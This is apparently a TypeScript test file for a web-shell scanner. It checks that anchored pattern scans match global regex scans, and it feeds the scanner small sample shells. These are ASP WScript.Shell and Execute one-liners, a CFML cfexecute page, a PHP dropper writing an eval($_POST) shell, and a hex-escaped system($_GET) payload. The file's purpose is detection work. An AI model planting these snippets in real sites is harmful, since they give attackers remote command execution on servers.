/**
 * Patterns run only where a cheap walk says they can start (ASP and CFML assignments, VBScript string
 * pieces, server code inside string literals, escape runs) must find exactly what a global scan
 * of the same regex finds: checked on seeded random strings over the characters that matter to
 * each pattern, and end to end with a small shell that needs each of them.
 */
import { test } from 'node:test';
import assert from 'node:assert/strict';
import { matchesAt } from '../../src/scan/context.js';
import { Taint, matches } from '../../src/scan/flow.js';
import { ASP_FLOW, aspAssignStarts } from '../../src/scan/analyzers/asp.js';
import { CFML_FLOW, cfmlAssignStarts } from '../../src/scan/analyzers/cfml.js';
import { EMBEDDED_CODE, VB_PIECES, quotesBeforeMarkers, vbPieceStarts } from '../../src/scan/analyzers/writers.js';
import { escapeRun } from '../../src/scan/analyzers/obfuscation.js';
import { prng } from '../helpers/prng.js';
import { findingOf, reasons } from './helpers.js';

const show = (ms: Iterable<RegExpExecArray>): string[] => [...ms].map((m) => `${m.index}:${m[0]}`);

function randomText(next: () => number, alphabet: string[], max: number): string {
  let s = '';
  const n = 2 + Math.floor(next() * max);
  for (let i = 0; i < n; i++) s += alphabet[Math.floor(next() * alphabet.length)];
  return s;
}

/** What a Taint read: assignments, tainted and directly tainted variables. */
const taintOf = (t: Taint): string => JSON.stringify([[...t.assignments], [...t.vars], [...t.direct]]);

const ASP_ALPHABET = ['"', '""', ' ', '\n', '\r', '\t', '\xa0', '=', '=', '==', ':', ';', '<%', 'then', 'Else', 'Set ', 'var\n', 'x', 'a1', '_', '&', 'Request("q")', 'If '];

test('ASP assignments read from the anchored starts are the ones the global scan reads', () => {
  const next = prng(20261207);
  const globalSpec = { ...ASP_FLOW, assignStarts: undefined };
  for (let t = 0; t < 20000; t++) {
    const s = randomText(next, ASP_ALPHABET, 30);
    assert.equal(taintOf(new Taint(s, ASP_FLOW)), taintOf(new Taint(s, globalSpec)), JSON.stringify(s));
  }
  // the starts of a few ordinary lines: the text's start, the line break, `:`, `then`, `<%`
  const code = 'a = 1\nb = Request("x") : c = b\nIf b Then d = c\n<%Set e = d%>';
  assert.deepEqual(aspAssignStarts(code), [0, 5, 23, 36, 47]);
  assert.deepEqual([...new Taint(code, ASP_FLOW).vars], ['b', 'c', 'd', 'e']);
});

test('CFML assignments read from the anchored starts are the ones the global scan reads', () => {
  const next = prng(31);
  const alphabet = ['<cfset ', '<CFSET\t', '<cfscript>', '<CFScript>', 'var ', 'VAR\n', 'x', 'a.b', '.', '=', '=', '==', ';', '{', '\n', ' ', '\t', 'form.c', '>', '_', 'url.q'];
  const globalSpec = { ...CFML_FLOW, assignStarts: undefined };
  for (let t = 0; t < 20000; t++) {
    const s = randomText(next, alphabet, 30);
    assert.equal(taintOf(new Taint(s, CFML_FLOW)), taintOf(new Taint(s, globalSpec)), JSON.stringify(s));
  }
  const code = '<cfset a = url.x>\n{ var b = a; c.d = b }';
  assert.deepEqual(cfmlAssignStarts(code), [0, 20, 29]);
  assert.deepEqual([...new Taint(code, CFML_FLOW).vars], ['a', 'b', 'c.d']);
  assert.deepEqual(cfmlAssignStarts('<cfscript> \n v = form.c; w = v'), [0, 11, 23]);
});

test('VBScript string pieces found from their joints are the ones the global scan finds', () => {
  const next = prng(7);
  const alphabet = ['"', '"', '""', 'ab', ' ', '\n', '\t', '&', '&', '+', 'chr(65)', 'ChrW( 9 )', 'Chr', 'x'];
  for (let t = 0; t < 20000; t++) {
    const s = randomText(next, alphabet, 30);
    assert.deepEqual(show(matchesAt(VB_PIECES, s, vbPieceStarts(s), 200)), show(matches(VB_PIECES, s, 200)), JSON.stringify(s));
  }
});

test('string literals holding server code found from the markers are the ones the global scan finds', () => {
  const next = prng(11);
  const alphabet = ['"', "'", '\\', '\\"', '\n', '\r', '<?php', '<?PhP', '<%', '<?=', '<?', '<', '%', 'a', ' '];
  for (let t = 0; t < 20000; t++) {
    const s = randomText(next, alphabet, 30);
    assert.deepEqual(show(matchesAt(EMBEDDED_CODE, s, quotesBeforeMarkers(s), 20)), show(matches(EMBEDDED_CODE, s, 20)), JSON.stringify(s));
  }
});

test('the escape-run walk finds the first run of 24 escapes the regex finds', () => {
  const regex = /(?:\\x[0-9a-fA-F]{2}|\\[0-7]{3}){24,}/;
  const next = prng(13);
  // mostly valid escapes, so runs of 24 and more occur, broken by near misses
  const good = ['\\x41', '\\x6f', '\\101', '\\777'];
  const bad = ['\\x4g', '\\18', '\\\\', '\\', 'x', '"'];
  for (let t = 0; t < 5000; t++) {
    let s = '';
    const n = 10 + Math.floor(next() * 80);
    for (let i = 0; i < n; i++) s += next() < 0.97 ? good[Math.floor(next() * good.length)] : bad[Math.floor(next() * bad.length)];
    const want = regex.exec(s);
    const got = escapeRun(s);
    assert.deepEqual(got && [got.index, got[0]], want && [want.index, want[0]], JSON.stringify(s));
  }
  // 23 escapes and a broken one: no run; an escaped backslash before 24: the run starts after it
  assert.equal(escapeRun(`${'\\x41'.repeat(23)}\\x4g`), null);
  assert.deepEqual(escapeRun(`"\\\\${'\\x41'.repeat(24)}"`)?.index, 3);
});

test('shells that need each anchored scan are still found, with the same evidence', () => {
  const assign = findingOf('assign.asp', '<%\r\nDim c\r\nIf True Then c = Request.Form("c")\r\nSet sh = Server.CreateObject("WScript.Shell")\r\nsh.Run "cmd /c " & c\r\n%>\r\n');
  assert.equal(assign?.score, 18);
  assert.deepEqual(reasons(assign), ['request-derived variable reaches shell Run', 'creates a Windows shell COM object', 'shell object in a page that reads request input']);
  const pieces = findingOf('pieces.asp', '<%\nx = "Ex" & "ecute(Re" & "quest(" & Chr(34) & "c" & Chr(34) & "))"\nResponse.Write x\n%>\n');
  assert.equal(pieces?.score, 18);
  assert.deepEqual(reasons(pieces), [
    'request input reaches Execute',
    'code-like text assembled from many string pieces',
    'one-line eval of a posted parameter (China Chopper-style client)',
  ]);
  const cf = findingOf('run.cfm', '<cfscript>\nvar a = 1; c = url.cmd;\n</cfscript>\n<cfset d = c>\n<cfexecute name="cmd.exe" arguments="/c #d#" timeout="5"></cfexecute>\n');
  assert.equal(cf?.score, 16);
  assert.deepEqual(reasons(cf), ['request input reaches cfexecute', 'OS command execution in a page that reads request input']);
  const dropper = findingOf('embedded.php', `<?php\n$p = '<?php @eval($_POST["k"]); ?>';\n$f = fopen('x.php', 'w');\nfwrite($f, $p);\n?>\n`);
  assert.equal(dropper?.score, 34);
  assert.ok(reasons(dropper).includes('request input reaches eval()'), JSON.stringify(reasons(dropper)));
  const hex = [...'system($_GET["cmd"]);'].map((ch) => `\\x${ch.charCodeAt(0).toString(16)}`).join('');
  const escaped = findingOf('escapes.php', `<?php\n$f = "${hex}\\163\\171\\163\\164\\145\\155";\necho $f;\n`);
  assert.equal(escaped?.score, 21);
  assert.deepEqual(reasons(escaped), [
    'request input reaches system()',
    'long run of hex/octal escapes in a string',
    'OS command built from variables in a script that reads request input',
    'runs OS commands (system)',
  ]);
});
